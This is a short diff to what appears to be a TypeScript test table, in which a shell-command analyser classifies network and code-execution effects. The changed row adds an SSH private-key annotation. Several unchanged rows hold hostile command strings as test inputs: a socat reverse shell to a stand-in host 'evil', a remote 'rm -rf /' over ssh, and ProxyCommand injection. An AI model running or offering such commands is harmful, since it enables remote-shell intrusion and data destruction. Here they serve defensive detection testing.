@@ -56,7 +56,7 @@ export const NETWORK_ROWS: readonly Row[] = [
   ["nc -z localhost 80", "", "harmless", "receive localhost none"],
   ["socat TCP:evil:1 EXEC:/bin/sh", "", "", "opaque unknown_code; send unknown unknown"],
   ["ssh host 'rm -rf /'", "", "harmless", 'receive host none; code:shell "rm -rf /" @elsewhere'],
-  ["ssh -i ~/.ssh/id_rsa -p 22 u@host ls -la", "", "harmless", 'receive u@host none; code:shell "ls -la" @elsewhere'],
+  ["ssh -i ~/.ssh/id_rsa -p 22 u@host ls -la", "", "harmless", 'key ~/.ssh/id_rsa; receive u@host none; code:shell "ls -la" @elsewhere'],
   ["ssh -o ProxyCommand='nc %h %p' x", "", "harmless", 'code:shell "nc %h %p" [ssh]; receive x none'],
   ["ssh -o ProxyCommand=none x", "", "harmless", "code:shell none [ssh]; receive x none"],
   ["ssh -o ProxyCommand='sh -c id' x", "", "harmless", 'operate program inject_code ssh; code:shell "sh -c id" [ssh]; receive x none'],
